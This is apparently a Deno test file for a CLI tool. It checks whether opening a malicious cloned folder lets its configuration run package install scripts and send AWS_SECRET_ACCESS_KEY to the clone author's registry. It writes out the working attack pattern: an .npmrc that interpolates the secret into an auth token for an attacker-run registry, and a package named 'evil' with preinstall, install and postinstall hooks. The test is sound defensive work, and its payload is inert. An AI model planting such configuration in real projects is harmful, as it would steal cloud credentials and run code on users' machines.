import { assertEquals } from "@std/assert";
import { build, stop } from "esbuild";
import { fileURLToPath } from "node:url";
import { makeApp, makeDenoPackage, serve } from "../../cli/testdata/bundle.ts";
import { run, succeed, temporaryFolder } from "../../testdata/programs.ts";

/** The tool, as far as this test needs it. */
const TOOL = 'console.log("the tool", Deno.args.join());';

/** A clone whose configuration runs the script of a package, and sends a key to the author of the clone. */
async function makeClone() {
  const caught = temporaryFolder();
  const script = `touch '${caught}/ran'`;
  const metadata = {
    name: "evil",
    version: "1.0.0",
    scripts: { preinstall: script, install: script, postinstall: script },
  };
  const { tarball, package_ } = await makeDenoPackage([
    ["package/package.json", JSON.stringify(metadata)],
    ["package/index.js", ""],
  ]);
  const keys: (string | null)[] = [];
  const registry = serve((request) => {
    keys.push(request.headers.get("authorization"));
    if (request.url.endsWith(".tgz")) return new Response(tarball);
    const dist = { tarball: `${registry.url}/evil.tgz`, integrity: package_.integrity };
    return Response.json({
      name: "evil",
      "dist-tags": { latest: "1.0.0" },
      versions: { "1.0.0": { ...metadata, hasInstallScript: true, dist } },
    });
  });
  const app = await makeApp({
    ".npmrc": `registry=${registry.url}/\n${
      registry.url.slice(5)
    }/:_authToken=\${AWS_SECRET_ACCESS_KEY}\n`,
    "package.json": JSON.stringify({ dependencies: { evil: "1.0.0" } }),
    "deno.json": JSON.stringify({ nodeModulesDir: "auto", allowScripts: ["npm:evil@1.0.0"] }),
    "node_modules/@mate/cli/package.json": '{ "name": "@mate/cli", "type": "module" }',
    "node_modules/@mate/cli/tool/main.js": TOOL,
    "node_modules/deno/package.json": '{ "name": "deno", "version": "2.9.5" }',
    "node_modules/deno/install_api.cjs": `exports.runInstall = () => ${
      JSON.stringify(Deno.execPath())
    };`,
  }, {});
  return {
    folder: app.folder,
    env: {
      AWS_SECRET_ACCESS_KEY: "SECRET",
      DENO_DIR: `${caught}/deno`,
      NO_COLOR: "1",
    },
    /** What the author of the clone has got. */
    got: async () => ({
      keys: [...new Set(keys)],
      ran: await Deno.stat(`${caught}/ran`).then(() => true, () => false),
    }),
    async [Symbol.asyncDispose]() {
      await registry[Symbol.asyncDispose]();
      await app[Symbol.asyncDispose]();
    },
  };
}

Deno.test("the configuration of a folder runs before a program in it, unless Deno has --no-config", async () => {
  await using clone = await makeClone();
  const { folder: cwd, env } = clone;
  const start = (...flags: string[]) => {
    const program = "node_modules/@mate/cli/tool/main.js";
    return run(Deno.execPath(), ["run", "-A", "--quiet", ...flags, program], { cwd, env });
  };
  assertEquals((await start("--no-config", "--node-modules-dir=manual")).stdout, "the tool \n");
  assertEquals(await clone.got(), { keys: [], ran: false });
  await start();
  assertEquals(await clone.got(), { keys: ["Bearer SECRET"], ran: true }, "the attack works");
});

Deno.test("the npm package starts the tool without the configuration of the folder", async () => {
  await using clone = await makeClone();
  const { folder: cwd, env } = clone;
  const bin = `${cwd}/node_modules/@mate/cli/bin.js`;
  await build({
    entryPoints: [fileURLToPath(new URL("../packages/tool/bin.ts", import.meta.url))],
    outfile: bin,
    bundle: true,
    format: "esm",
    platform: "node",
    logLevel: "error",
  });
  await stop();
  assertEquals(await succeed("node", [bin, "--version"], { cwd, env }), "the tool --version\n");
  assertEquals(await clone.got(), { keys: [], ran: false });
});
